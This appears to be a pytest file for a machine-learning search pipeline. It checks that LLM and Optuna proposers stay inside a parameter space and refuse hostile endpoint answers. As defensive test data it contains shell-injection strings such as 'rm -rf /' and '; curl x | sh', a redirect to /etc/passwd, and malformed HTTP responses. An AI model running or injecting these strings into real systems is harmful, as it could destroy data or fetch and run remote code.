"""Proposers: what they may propose, and what becomes of everything else, hostile answers included."""

import json
import os
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest
import yaml

from pipelines.campaign import run as campaign
from pipelines.campaign.arms import arm_of
from pipelines.campaign.proposers import llm
from pipelines.campaign.proposers.base import Outcome, Proposal, ProposalError, inside_space
from pipelines.campaign.proposers.llm import KEY_ENV, MODEL_ENV, URL_ENV, LlmProposer
from pipelines.campaign.proposers.optuna import OptunaProposer
from pipelines.campaign.records import find_parent
from pipelines.campaign.research import MOST_REFUSALS
from pipelines.campaign.run import CampaignConfig, run_campaign
from pipelines.campaign.spec import BudgetSpec, CampaignError, CampaignSpec, EndpointSpec, ProposerSpec
from pipelines.command.cli import run_entry_point
from pipelines.tracking.arms import read_arms
from pipelines.tracking.store import client

SPACE: dict[str, dict[str, Any]] = {
    "optim.lr": {"low": 1e-5, "high": 1e-2, "log": True},
    "batch_size": {"low": 8, "high": 64},
    "objective.koleo_on": {"choices": ["head_logits", "class_token"]},
}


def spec_of(kind: Any, prune_metric: str = "") -> CampaignSpec:
    return CampaignSpec(
        name="search",
        question="Which rate?",
        endpoint=EndpointSpec(metric="loss/total", goal="minimize"),
        stages={"rehearsal": {}},
        budget=BudgetSpec(hours=1.0),
        proposer=ProposerSpec(
            kind=kind, max_arms=8, space=SPACE, prune_metric=prune_metric, prune_from_step=2
        ),
    )


@pytest.mark.parametrize(
    ("overrides", "sentence"),
    [
        ({}, "changes nothing"),
        ({"price_per_hour": 0}, "'price_per_hour' is not in the space"),
        ({"budget.cost": 1000}, "'budget.cost' is not in the space"),
        ({"runs_dir": "/etc"}, "'runs_dir' is not in the space"),
        ({"optim.lr": 1.0}, "it may lie in 1e-05 .. 0.01"),
        ({"optim.lr": "$(reboot)"}, "which is not a number"),
        ({"optim.lr": True}, "which is not a number"),
        ({"optim.lr": float("nan")}, "it may lie in"),
        ({"objective.koleo_on": "class_token; rm -rf /"}, "it may be one of"),
        ({"objective.koleo_on": ["class_token"]}, "it may be one of"),
    ],
)
def test_nothing_outside_the_space_passes(overrides: dict[str, Any], sentence: str) -> None:
    with pytest.raises(ProposalError, match=sentence):
        inside_space(spec_of("llm").proposer, overrides)


class StubModel(BaseHTTPRequestHandler):
    """Answers with what the test put there, and keeps what it was asked."""

    content: Any = "{}"
    status: int = 200
    script: list[str]
    asked: list[tuple[dict[str, str], dict[str, Any]]]

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        type(self).asked.append((dict(self.headers), body))
        self.send_response(self.status)
        self.end_headers()
        answer = self.script.pop(0) if self.script else self.content
        if isinstance(answer, str):
            answer = {"choices": [{"message": {"content": answer}}]}
        self.wfile.write(json.dumps(answer).encode())

    def log_message(self, format: str, *args: Any) -> None:
        """Stay quiet."""


@pytest.fixture
def model(monkeypatch: pytest.MonkeyPatch) -> Iterator[type[StubModel]]:
    StubModel.asked, StubModel.script, StubModel.status, StubModel.content = [], [], 200, "{}"
    server = HTTPServer(("127.0.0.1", 0), StubModel)
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    monkeypatch.setenv(URL_ENV, f"http://127.0.0.1:{server.server_port}/v1")
    monkeypatch.setenv(MODEL_ENV, "stub")
    monkeypatch.setenv(KEY_ENV, "s3cret")
    yield StubModel
    server.shutdown()
    server.server_close()
    thread.join()


def test_a_proposal_of_the_model_becomes_overrides(model: type[StubModel]) -> None:
    model.content = json.dumps({"hypothesis": "slower\nis\x1b[31m better", "overrides": {"optim.lr": 0.001}})
    done = Outcome("llm-000", {"optim.lr": 0.01}, "first", "finished", 0.7)
    proposal = LlmProposer(spec_of("llm")).propose([done])
    assert proposal == Proposal({"optim.lr": 0.001}, "slower is [31m better")
    headers, body = model.asked[0]
    assert headers["Authorization"] == "Bearer s3cret"
    situation = json.loads(body["messages"][1]["content"])
    assert situation["space"] == SPACE
    assert situation["results"] == [
        {"overrides": {"optim.lr": 0.01}, "hypothesis": "first", "state": "finished", "value": 0.7}
    ]
    assert "s3cret" not in json.dumps(body)


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        ("I would lower the rate.", "the answer is not JSON"),
        ("```json\n{}\n```", "the answer is not JSON"),
        ("[]", "a JSON list, not an object"),
        ('{"overrides": {"optim.lr": 0.001}}', "lacks an object 'overrides' or a text 'hypothesis'"),
        ('{"hypothesis": 3, "overrides": {"optim.lr": 0.001}}', "lacks an object"),
        (
            '{"hypothesis": "x", "overrides": {"optim.lr": 0.001}, "price_per_hour": 0}',
            "'price_per_hour', which a",
        ),
        (
            '{"hypothesis": "x", "overrides": {"optim.lr": 0.001}, "budget": {"cost": 9}}',
            "'budget', which a",
        ),
        ('{"hypothesis": "x", "overrides": {"resume": "; curl x | sh"}}', "'resume' is not in the space"),
        ('{"hypothesis": "x", "overrides": {"optim.lr": NaN}}', "it may lie in"),
        ({"error": {"message": "no"}}, "not a chat completion"),
        ({"choices": [{"message": {"content": None}}]}, "holds no text"),
        ({"choices": []}, "not a chat completion"),
    ],
)
def test_a_hostile_answer_is_refused_with_its_reason(
    model: type[StubModel], content: Any, sentence: str
) -> None:
    model.content = content
    with pytest.raises(ProposalError, match=sentence):
        LlmProposer(spec_of("llm")).propose([])


def test_a_model_may_stop_and_may_be_away(model: type[StubModel], monkeypatch: pytest.MonkeyPatch) -> None:
    model.content = '{"stop": true}'
    assert LlmProposer(spec_of("llm")).propose([]) is None
    model.status = 500
    with pytest.raises(ProposalError, match="did not answer: Internal Server Error"):
        LlmProposer(spec_of("llm")).propose([])
    monkeypatch.setenv(URL_ENV, "http://127.0.0.1:9/v1")
    with pytest.raises(ProposalError, match="did not answer"):
        LlmProposer(spec_of("llm")).propose([])


JSON = b'{"choices": [{"message": {"content": "%s"}}]}'
RAW = {
    "a cut chunked body": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nff\r\n{",
    "a chunk of no size": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{",
    "a bad status line": b"HTTP/9 fine\r\n\r\n",
    "no status line": b"\x00\xff\x00\xff",
    "nothing": b"",
    "a thousand headers": b"HTTP/1.1 200 OK\r\n" + b"A: b\r\n" * 1000 + b"\r\n",
    "a header of a megabyte": b"HTTP/1.1 200 OK\r\nA: " + b"b" * 1_000_000,
    "a body that is cut": b"HTTP/1.1 200 OK\r\nContent-Length: 900\r\n\r\n{",
    "a length that is none": b"HTTP/1.1 200 OK\r\nContent-Length: x\r\n\r\n{",
    "JSON nested deep": b"HTTP/1.1 200 OK\r\n\r\n" + b"[" * 500_000,
    "an integer of 5000 digits": b"HTTP/1.1 200 OK\r\n\r\n" + b"9" * 5000,
    "megabytes": b"HTTP/1.1 200 OK\r\n\r\n" + b"x" * 3_000_000,
    "no UTF-8": b"HTTP/1.1 200 OK\r\n\r\n\xff\xfe\xff",
    "another address": b"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:9/x\r\n\r\n",
    "a file's address": b"HTTP/1.1 302 Found\r\nLocation: file:///etc/passwd\r\n\r\n",
    "deep JSON in its text": b"HTTP/1.1 200 OK\r\n\r\n" + JSON % (b"[" * 90_000),
    "5000 digits in its text": b"HTTP/1.1 200 OK\r\n\r\n" + JSON % (b"9" * 5000),
    "half a letter in its text": b"HTTP/1.1 200 OK\r\n\r\n" + JSON % b"\\ud800",
    "4000 digits as a value": b"HTTP/1.1 200 OK\r\n\r\n"
    + JSON % (b'{\\"hypothesis\\": \\"x\\", \\"overrides\\": {\\"batch_size\\": ' + b"9" * 4000 + b"}}"),
}


@contextmanager
def endpoint(answer: Callable[[socket.socket], object], monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """An endpoint on loopback that answers each caller with bytes of its own."""
    listening = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        with suppress(OSError):
            while True:
                caller, _ = listening.accept()
                with caller, suppress(OSError):
                    caller.recv(65536)
                    answer(caller)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    monkeypatch.setenv(URL_ENV, f"http://127.0.0.1:{listening.getsockname()[1]}/v1")
    monkeypatch.setenv(MODEL_ENV, "m")
    monkeypatch.setenv(KEY_ENV, "s3cret-key")
    try:
        yield
    finally:
        listening.shutdown(socket.SHUT_RDWR)
        listening.close()
        thread.join(5)


@pytest.mark.parametrize("name", RAW)
def test_whatever_an_endpoint_sends_is_a_refused_proposal(monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    with endpoint(lambda caller: caller.sendall(RAW[name]), monkeypatch):
        with pytest.raises(ProposalError) as refusal:
            LlmProposer(spec_of("llm")).propose([])
    assert "s3cret" not in str(refusal.value)
    assert len(str(refusal.value)) < 300


def test_an_address_that_an_answer_names_is_not_asked(monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[socket.socket] = []
    with endpoint(asked.append, monkeypatch):
        moved = f"HTTP/1.1 302 Found\r\nLocation: {os.environ[URL_ENV]}\r\n\r\n".encode()
        with endpoint(lambda caller: caller.sendall(moved), monkeypatch), pytest.raises(ProposalError):
            LlmProposer(spec_of("llm")).propose([])
    assert asked == []  # It would have got the key.


@pytest.mark.parametrize("start", [b"", b"HTTP/1.1 200 OK\r\n", b"HTTP/1.1 200 OK\r\n\r\n"])
def test_an_endpoint_that_drips_is_left_after_a_while(monkeypatch: pytest.MonkeyPatch, start: bytes) -> None:
    monkeypatch.setattr(llm, "TIMEOUT_S", 0.6)

    def drip(caller: socket.socket) -> None:
        caller.sendall(start)
        for _ in range(30):
            caller.sendall(b"a")
            time.sleep(0.1)

    with endpoint(drip, monkeypatch), pytest.raises(ProposalError, match=r"did not answer within 0\.6 s"):
        LlmProposer(spec_of("llm")).propose([])


@pytest.mark.parametrize("key", ["s3cret\nkey", "s3cret key", "s3crét"])
def test_a_key_that_cannot_be_sent_is_refused_and_not_shown(
    monkeypatch: pytest.MonkeyPatch, key: str
) -> None:
    monkeypatch.setenv(URL_ENV, "http://127.0.0.1:9/v1")
    monkeypatch.setenv(MODEL_ENV, "m")
    monkeypatch.setenv(KEY_ENV, key)
    with pytest.raises(CampaignError, match="holds a blank or a letter that no key has") as refusal:
        LlmProposer(spec_of("llm"))
    assert "s3cr" not in str(refusal.value)


def test_a_model_needs_an_address(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(URL_ENV, raising=False)
    monkeypatch.setenv(MODEL_ENV, "m")
    with pytest.raises(CampaignError, match="proposer llm needs DINOX_LLM_URL in the environment"):
        LlmProposer(spec_of("llm"))
    monkeypatch.setenv(URL_ENV, "file:///etc/passwd")
    with pytest.raises(CampaignError, match="must be an http or https address"):
        LlmProposer(spec_of("llm"))


def test_optuna_stays_in_the_space_and_moves_toward_what_was_better() -> None:
    pytest.importorskip("optuna")
    proposer = OptunaProposer(spec_of("optuna"))
    outcomes: list[Outcome] = []
    for number in range(24):
        proposal = proposer.propose(outcomes)
        assert proposal is not None
        overrides = inside_space(spec_of("optuna").proposer, proposal.overrides)
        assert set(overrides) == set(SPACE)
        distance = abs(overrides["optim.lr"] - 1e-3) * 1000 + (
            overrides["objective.koleo_on"] == "head_logits"
        )
        outcomes.append(Outcome(f"optuna-{number}", overrides, "", "finished", distance))
    values = [outcome.value for outcome in outcomes if outcome.value is not None]
    assert sum(values[-8:]) < sum(values[:8])
    again = proposer.propose(outcomes)
    assert again == proposer.propose(outcomes)  # A campaign that was killed asks again and hears the same.


def test_optuna_prunes_the_arm_that_lags_behind_its_peers() -> None:
    pytest.importorskip("optuna")
    proposer = OptunaProposer(spec_of("optuna", prune_metric="loss/total"))
    overrides = {"optim.lr": 1e-3, "batch_size": 8, "objective.koleo_on": "class_token"}

    def running(name: str, level: float) -> Outcome:
        return Outcome(name, overrides, "", "running", None, [(step, level) for step in range(1, 9)])

    outcomes = [running("good", 0.1), running("fair", 0.2), running("better", 0.15), running("bad", 9.0)]
    pruned = proposer.to_prune(outcomes)
    assert "bad" in pruned
    assert "good" not in pruned
    assert proposer.to_prune([replace(outcome, state="finished") for outcome in outcomes]) == []
    early = [replace(outcome, curve=outcome.curve[:1]) for outcome in outcomes]
    assert proposer.to_prune(early) == []  # No arm has reached the first rung.


@pytest.fixture
def search(own_store: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., int]:
    """Call a campaign of rehearsals whose arms a proposer adds; returns the exit code."""
    monkeypatch.setattr(campaign, "JOBS", own_store / "jobs")

    def call(kind: str, hours: float = 1.0) -> int:
        tree = {
            "name": "search",
            "question": "Which rate?",
            "endpoint": {"metric": "loss/total", "goal": "minimize"},
            "stages": {"rehearsal": {"steps": 2}},
            "price_per_hour": 0.5,
            "budget": {"hours": hours},
            "proposer": {
                "kind": kind,
                "max_arms": 4,
                "space": {"lr": {"low": 1e-4, "high": 1e-2, "log": True}},
            },
        }
        (own_store / "campaign.yaml").write_text(yaml.safe_dump(tree))
        words = ["--spec", str(own_store / "campaign.yaml"), "--parallel", "1"]
        return run_entry_point("campaign", CampaignConfig, run_campaign, None, words)

    return call


def research_log(own_store: Path) -> str:
    parent = find_parent("search")
    assert parent is not None
    return Path(client().download_artifacts(parent.run_id, "research.md", str(own_store))).read_text()


@pytest.mark.slow
def test_a_model_runs_a_search_whatever_else_it_answers(
    search: Callable[..., int], model: type[StubModel], own_store: Path
) -> None:
    def proposal(**tree: Any) -> str:
        return json.dumps({"hypothesis": "try it", "overrides": {"lr": 0.001}} | tree)

    model.script = [
        "lower it!",
        proposal(price_per_hour=0),
        proposal(overrides={"seconds": 1e9}),
        proposal(overrides={"lr": "1e-3; rm -rf /"}),
        proposal(),
        proposal(),  # the same again
        proposal(overrides={"lr": 0.01}, hypothesis="higher"),
        '{"stop": true}',
    ]
    assert search("llm") == 0
    arms = {arm.name: arm for arm in read_arms()}
    assert {name: arm_of(arm).overrides for name, arm in arms.items()} == {
        "llm-000": {"lr": 0.001},
        "llm-001": {"lr": 0.01},
    }
    assert all(arm.status == "FINISHED" and arm.price_per_hour == 0.5 for arm in arms.values())
    log = research_log(own_store)
    for words in (
        "the answer is not JSON",
        "'price_per_hour', which a proposal may not set",
        "'seconds' is not in the space",
        "which is not a number",
        "it repeats arm llm-000",
        "hypothesis: higher",
        "outcome: finished, loss/total 0.5",
    ):
        assert words in log


@pytest.mark.slow
def test_a_model_that_only_babbles_is_not_asked_for_ever(
    search: Callable[..., int], model: type[StubModel]
) -> None:
    model.content = "no"
    assert search("llm") == 0
    assert len(model.asked) == MOST_REFUSALS
    assert read_arms() == []


@pytest.mark.slow
def test_optuna_adds_its_arms_and_a_second_call_adds_none(
    search: Callable[..., int], own_store: Path
) -> None:
    pytest.importorskip("optuna")
    assert search("optuna") == 0
    arms = read_arms()
    assert len(arms) == 4
    assert all(arm.status == "FINISHED" and 1e-4 <= arm_of(arm).overrides["lr"] <= 1e-2 for arm in arms)
    assert research_log(own_store).count("outcome: finished") == 4
    assert search("optuna") == 0
    assert len(read_arms()) == 4
